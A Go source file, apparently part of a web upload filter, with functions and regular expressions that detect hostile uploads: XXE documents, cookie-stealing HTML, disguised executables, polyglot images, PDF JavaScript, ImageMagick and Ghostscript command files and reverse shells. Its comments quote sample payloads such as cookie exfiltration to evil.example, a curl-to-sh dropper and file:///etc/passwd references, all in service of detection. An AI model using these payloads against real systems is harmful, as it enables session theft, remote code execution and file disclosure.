package filter

import (
	"regexp"
	"strings"
)

// What an uploaded file's content says about it, beyond webshell code
// (webshellCode) and script in SVG (svgScript). Each reads the first
// maxFileScan bytes, lower-cased, with the name and the Content-Type the
// client declared for the part.

// xmlEntityFile: an XML document (an SVG, a DOCX part, a feed, a
// configuration) that declares an external entity. Image libraries,
// document converters and importers parse uploaded XML with the same
// parsers as a request body, so the entity reads a file or fetches a URL
// when the upload is processed.
func xmlEntityFile(lc string) bool {
	t := strings.TrimLeft(lc, " \t\r\n\ufeff")
	if !strings.HasPrefix(t, "<?xml") && !strings.HasPrefix(t, "<!doctype") && !strings.HasPrefix(t, "<svg") && !strings.HasPrefix(t, "<!--") {
		return false
	}
	i := strings.Index(t, "<!doctype")
	if i < 0 || !strings.Contains(t[i:], "<!entity") {
		return false
	}
	return reXXEEntity.MatchString(t[i:])
}

// htmlScriptFile: an uploaded HTML page whose script sends the site's
// cookies or storage away. Served back from the site's origin the page
// runs with them (stored XSS). HTML pages with their own scripts are
// uploaded to site builders and documentation hosts every day, so only
// the theft counts: the cookie or storage appended to a URL or a query
// being built ('https://evil.example/?c='+document.cookie, `…=${localStorage.token}`).
// A page is one by its name (.html, .htm, .xhtml, .xht), its
// declared type, or its first element.
func htmlScriptFile(name, ctype, lc string) bool {
	if !strings.Contains(lc, "cookie") && !strings.Contains(lc, "storage") {
		return false
	}
	ext := name[strings.LastIndexByte(name, '.')+1:]
	page := ext == "html" || ext == "htm" || ext == "xhtml" || ext == "xht" || strings.HasPrefix(ctype, "text/html") || strings.HasPrefix(ctype, "application/xhtml")
	if !page {
		t := strings.TrimLeft(lc, " \t\r\n\ufeff")
		page = strings.HasPrefix(t, "<!doctype html") || strings.HasPrefix(t, "<html")
	}
	return page && reStealBrowserState.MatchString(lc)
}

// reStealBrowserState: the cookie or web storage concatenated after a URL
// or query part ("…?c=" + document.cookie), or interpolated after one in a
// template literal. The getCookie idiom ("; " + document.cookie) has no
// URL part and passes.
var reStealBrowserState = regexp.MustCompile("[=?/&]['\"`]?" + `\s*\+\s*(?:document\s*\.\s*cookie|(?:window\.)?(?:local|session)storage)|[=?/&]\$\{\s*(?:document\.cookie|(?:window\.)?(?:local|session)storage)`)

// executableMagic: the file starts as a Windows PE (the MZ header with
// its DOS stub or a PE signature), an ELF or a Mach-O binary.
func executableMagic(b string) bool {
	switch {
	case strings.HasPrefix(b, "mz"):
		head := b[:min(len(b), 1024)]
		return strings.Contains(head, "this program cannot be run in dos mode") || strings.Contains(head, "pe\x00\x00")
	case strings.HasPrefix(b, "\x7felf"):
		return true
	case strings.HasPrefix(b, "\xcf\xfa\xed\xfe"), strings.HasPrefix(b, "\xce\xfa\xed\xfe"), strings.HasPrefix(b, "\xfe\xed\xfa\xcf"), strings.HasPrefix(b, "\xfe\xed\xfa\xce"):
		return true
	}
	return false
}

// documentExtensions and documentTypes name what users upload as
// documents, images and media: an executable presented as one is a
// trap for whoever opens it (report.pdf.exe sent as application/pdf).
var documentExtensions = wordSet("pdf doc docx xls xlsx ppt pptx odt ods odp rtf txt csv jpg jpeg png gif bmp webp tif tiff heic svg mp3 mp4 mov avi wav zip")

// disguisedExecutable: an executable whose declared type is a document,
// image, text or media type, or whose name carries a document extension
// (report.pdf, report.pdf.exe, invoice.docx .exe).
func disguisedExecutable(name, ctype, b string) bool {
	if !executableMagic(b) {
		return false
	}
	if i := strings.IndexByte(ctype, ';'); i >= 0 {
		ctype = ctype[:i]
	}
	ctype = strings.TrimSpace(ctype)
	switch {
	case strings.HasPrefix(ctype, "image/"), strings.HasPrefix(ctype, "text/"), strings.HasPrefix(ctype, "audio/"), strings.HasPrefix(ctype, "video/"),
		ctype == "application/pdf", ctype == "application/msword", ctype == "application/rtf",
		strings.HasPrefix(ctype, "application/vnd.openxmlformats"), strings.HasPrefix(ctype, "application/vnd.ms-"), strings.HasPrefix(ctype, "application/vnd.oasis.opendocument"):
		return true
	}
	for _, part := range strings.Split(strings.ReplaceAll(name, " ", ""), ".")[1:] {
		if documentExtensions[part] {
			return true
		}
	}
	return false
}

// cgiScriptFile: a Perl file (.pl, which Apache's cgi-script handler runs
// like .cgi) whose content starts with an interpreter line: a CGI
// program, run by the server that stores it in a script directory.
func cgiScriptFile(name, lc string) bool {
	return strings.HasSuffix(strings.TrimRight(name, ". "), ".pl") && strings.HasPrefix(lc, "#!")
}

// imageExtensions are the raster formats an image upload form takes.
var imageExtensions = wordSet("jpg jpeg png gif bmp webp ico tif tiff heic avif")

// imageMarkupFile: a raster image, by its name or its first bytes, that
// carries HTML script: a tag that runs script or loads a page, or a tag
// with an event handler (GIF89a<script>…</script>, a JPEG comment with
// <img src=x onerror=…>). Served back with a sniffed type, or included
// as HTML, it runs on the site's origin. Compressed pixel data does not
// spell a tag name after '<' by chance. The declared type alone does not
// make a file an image: clients send whatever type a form asks for.
func imageMarkupFile(name, lc string) bool {
	ext := name[strings.LastIndexByte(name, '.')+1:]
	image := imageExtensions[ext] || imageMagic(lc)
	// GIF89a/*…*/=alert(1)//: a GIF whose header opens a JavaScript
	// comment, so that the file is also a script.
	return image && (strings.IndexByte(lc, '<') >= 0 || strings.HasPrefix(lc, "gif8")) && reImageMarkup.MatchString(lc)
}

// pdfScriptFile: an uploaded PDF with a JavaScript action that reaches
// outside the document (submits a form, opens a URL, decodes or evaluates
// code): run by the viewer when the document opens.
func pdfScriptFile(lc string) bool {
	if !strings.HasPrefix(lc, "%pdf-") || !strings.Contains(lc, "/javascript") {
		return false
	}
	return containsAny(lc, "submitform(", "launchurl(", "geturl(", "exportdataobject(", "eval(", "unescape(", "util.printf(", "app.alert(")
}

// imageMagic: b (lower-cased) starts as a GIF, PNG, JPEG, BMP, TIFF or
// WebP file does.
func imageMagic(b string) bool {
	for _, m := range [...]string{"gif8", "\x89png", "\xff\xd8\xff", "bm", "ii*\x00", "mm\x00*"} {
		if strings.HasPrefix(b, m) {
			return m != "bm" || len(b) > 14 && b[14] < 0x80 && b[6] == 0 && b[7] == 0
		}
	}
	return strings.HasPrefix(b, "riff") && len(b) >= 12 && b[8:12] == "webp"
}

var reImageMarkup = regexp.MustCompile(`<(?:script|iframe|object|embed|html|body)[\s/>]|<[a-z]+[\s/][^<>]{0,200}\bon[a-z]{3,40}\s*=|javascript\s*:|^gif8[79]a/\*`)

// converterCommandFile: a file that an image or document converter runs
// as a program when it converts it, with an instruction that reaches
// outside the file. ImageMagick reads MVG drawing scripts whatever the
// name (ImageTragick, CVE-2016-3714: a url() or an image primitive that
// fetches, pipes to a shell or reads a local file through a coder such as
// ephemeral:, msl:, text: or label:@); Ghostscript runs PostScript and
// EPS, where %pipe% opens a command (CVE-2016-7977 and its successors).
func converterCommandFile(lc string) bool {
	t := strings.TrimLeft(lc, " \t\r\n\ufeff")
	switch {
	case strings.HasPrefix(t, "push graphic-context"), strings.HasPrefix(t, "viewbox "):
		return reMVGEscape.MatchString(t)
	case strings.HasPrefix(t, "%!ps"), strings.HasPrefix(t, "\xc5\xd0\xd3\xc6"):
		return strings.Contains(t, "%pipe%") || strings.Contains(t, "%handle%")
	case strings.HasPrefix(t, "<?xml"), strings.HasPrefix(t, "<image"):
		// MSL, ImageMagick's scripting language: a read and a write.
		return strings.Contains(t, "<image") && strings.Contains(t, "<read ") && strings.Contains(t, "<write ")
	}
	return false
}

var reMVGEscape = regexp.MustCompile(`url\(|\|\s*[a-z/]|\b(?:ephemeral|msl|text|label|mvg|https?|ftp):`)

// reverseShellFile: source code that connects a shell to a remote
// host, in the idioms of every payload generator: bash's /dev/tcp
// redirection, nc/ncat -e or socat with a shell (reverseShell, as in a
// value), a socket duplicated onto the standard streams (Python, Perl,
// Ruby, PHP), Node's child_process with a shell, a PowerShell TCP client
// streaming a command loop. Code that uses sockets
// or runs commands does not do both with a shell.
func reverseShellFile(lc string) bool {
	if strings.Contains(lc, "/dev/tcp/") || strings.Contains(lc, "/dev/udp/") {
		return reDevTCP.MatchString(lc)
	}
	shell := strings.Contains(lc, "/bin/sh") || strings.Contains(lc, "/bin/bash") || strings.Contains(lc, "cmd.exe") || strings.Contains(lc, "powershell") || strings.Contains(lc, "sh -i") || strings.Contains(lc, "bash -i")
	switch {
	case reverseShell(lc):
		return true // nc -e /bin/sh, socat … exec:sh: as in a value
	case shell && strings.Contains(lc, "socket") && (strings.Contains(lc, "dup2(") || strings.Contains(lc, "pty.spawn(") || strings.Contains(lc, "open(stdin") || strings.Contains(lc, "fdopen(")):
		return true
	case shell && strings.Contains(lc, "child_process") && (strings.Contains(lc, "net.socket") || strings.Contains(lc, "-i")):
		return true
	case strings.Contains(lc, "net.sockets.tcpclient") && strings.Contains(lc, "getstream()") && (strings.Contains(lc, "iex") || strings.Contains(lc, "invoke-expression")):
		return true
	case (strings.Contains(lc, "curl") || strings.Contains(lc, "wget")) && strings.Contains(lc, "sh") && reIPCradle.MatchString(lc):
		// curl http://203.0.113.7/b | sh: a dropper that fetches its
		// payload from a bare address and runs it. Install scripts
		// fetch from named hosts.
		return true
	}
	return false
}

// reIPCradle: a download from an IPv4 address piped into a shell.
var reIPCradle = regexp.MustCompile(`(?:curl|wget)\b[^\n|;]*?\bhttps?://\d{1,3}(?:\.\d{1,3}){3}\b[^\n|;]*\|\s*(?:sudo\s+)?(?:ba|da|z|k)?sh\b`)

var reDevTCP = regexp.MustCompile(`/dev/(?:tcp|udp)/[a-z0-9.\-\[\]:]+/\d+`)

// xmlExternalDTDFile: an uploaded XML document whose DOCTYPE names an
// external DTD by URL (<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">)
// that is not one of the W3C public DTDs SVG and XHTML files carry: the
// importer's parser fetches it, and a DTD can declare the entities that
// read and send a file.
func xmlExternalDTDFile(lc string) bool {
	i := strings.Index(lc, "<!doctype")
	if i < 0 {
		return false
	}
	return reExternalDTD.MatchString(lc[i:]) && !reXXEW3C.MatchString(lc[i:])
}

// reExternalDTD: a DOCTYPE whose external identifier is a URL.
var reExternalDTD = regexp.MustCompile(`^<!doctype\s+[\w:.-]+\s+(?:system|public\s+["'][^"']*["'])\s+["'](?:https?|ftp|file|jar|netdoc)://`)

// localReferenceFile: an uploaded HTML or SVG document with an attribute
// that loads a local file (src="file:///etc/passwd", xlink:href="file:…")
// or the cloud metadata service: an HTML-to-PDF renderer or an image
// converter fetches it on the server and puts what it read in its output.
func localReferenceFile(lc string) bool {
	for _, a := range [...]string{`="file:`, `='file:`, `= "file:`, `=file:`} {
		if strings.Contains(lc, a) {
			return true
		}
	}
	return containsAny(lc, metadataHosts...)
}
